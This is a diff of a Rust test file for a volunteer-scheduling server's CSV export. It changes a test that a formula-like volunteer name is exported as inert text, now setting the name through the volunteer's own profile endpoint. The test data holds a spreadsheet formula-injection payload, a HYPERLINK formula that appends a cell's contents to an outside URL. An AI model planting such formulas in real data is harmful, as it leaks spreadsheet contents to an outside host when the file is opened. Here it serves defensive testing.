@@ -4,6 +4,7 @@ use super::{AWKWARD_NAME, approved_hour, read_csv, shift_day};
 use crate::common::TestServer;
 use crate::staff_client::{create, error_of, get, logged, sign_in};
 use huli_contract::{ErrorCode, PointId, StaffRole, UnitView};
+use serde_json::json;
 
 #[tokio::test]
 async fn csv_exports_round_trip_chinese_text_and_mask_phones_by_role() {
@@ -135,14 +136,16 @@ async fn exports_refuse_point_leaders_strangers_and_bad_periods() {
 #[tokio::test]
 async fn a_name_that_looks_like_a_formula_is_exported_as_text() {
     let server = TestServer::start().await;
-    let (coordinator, _, number, _) = approved_hour(&server).await;
+    let (coordinator, _, number, volunteer) = approved_hour(&server).await;
     let formula = "=HYPERLINK(\"http://example.com/\"&C2)";
-    sqlx::query("UPDATE volunteers SET name = $1 WHERE id = $2")
-        .bind(formula)
-        .bind(number.id())
-        .execute(&server.db().await)
+    // Plain text to the contract, so the volunteer may well call themselves this.
+    let renamed = (server.client.put(server.url("/api/me")))
+        .bearer_auth(&volunteer.key)
+        .json(&json!({"name": formula, "team_id": 1}))
+        .send()
         .await
         .unwrap();
+    assert_eq!(renamed.status(), 200);
     let (_, rows) = read_csv(
         get(
             &server,
